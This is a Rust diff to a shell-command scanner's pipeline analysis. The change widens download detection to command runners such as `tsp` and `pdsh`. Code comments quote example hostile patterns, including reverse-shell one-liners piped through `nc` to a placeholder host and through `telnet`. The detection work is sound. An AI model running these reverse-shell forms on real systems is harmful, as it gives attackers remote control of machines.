@@ -1196,10 +1196,13 @@ pub(super) fn pipelines(scan: &mut Scan<'_>) {
             .iter()
             .filter(|c| c.pipeline == cmd.pipeline && c.stage > cmd.stage)
             .collect();
-        let xargs_downloads = program == "xargs"
-            && line.commands.iter().any(|c| {
-                c.parent == Some(index) && c.via == Via::Xargs && is_downloader(c.program())
-            });
+        // What xargs or another runner runs writes to the runner's output (`xargs curl`,
+        // `tsp curl`, `pdsh -w h curl`).
+        let xargs_downloads = line.commands.iter().any(|c| {
+            c.parent == Some(index)
+                && matches!(c.via, Via::Xargs | Via::Runs)
+                && is_downloader(c.program())
+        });
         let downloads = (is_downloader(program) || xargs_downloads) && !writes_stdout_to_file(cmd);
         // A shell whose input and output are wired to a raw connection: a reverse shell
         // built from a pipe (`cat f | sh -i | nc host port > f`, `telnet | bash | telnet`).
